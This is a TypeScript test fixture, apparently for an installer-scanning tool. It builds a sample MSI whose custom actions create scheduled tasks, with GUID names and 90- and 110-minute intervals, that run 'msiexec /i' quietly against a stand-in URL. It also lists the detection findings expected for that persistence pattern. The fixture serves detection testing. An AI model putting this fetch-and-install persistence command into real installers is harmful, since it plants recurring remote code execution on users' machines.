/** Only the persistence of the chain: tasks that make msiexec fetch a package. */

import { guidFor } from '../builder/guid.js';
import { buildInstaller } from '../builder/installer.js';
import { ruleId } from '../rule-id.js';
import { noBundle, type SampleCase } from '../sample-case.js';

export const sample: SampleCase = {
  name: 'other-scheduled-msiexec',
  title: 'scheduled tasks that run msiexec with a URL',
  kind: 'other',
  fileName: 'tasks.msi',
  build: () =>
    buildInstaller({
      name: 'Task Maker',
      customActions: ['90', '110'].map((minutes) => ({
        name: `Task${minutes}`,
        type: 34,
        source: 'TARGETDIR',
        target: `schtasks /create /tn ${guidFor(minutes)} /tr "msiexec /i http://pkg.example.net/${minutes}z /quiet" /sc minute /mo ${minutes}`,
        after: 'InstallFinalize',
      })),
    }),
  expected: noBundle({
    verdict: 'suspicious',
    findings: [
      ruleId.scheduledMsiexecUrl,
      ruleId.scheduledTask90Or110,
      ruleId.randomTaskName,
      ruleId.autostartEntry,
      ruleId.remoteMsiexec,
    ],
  }),
};
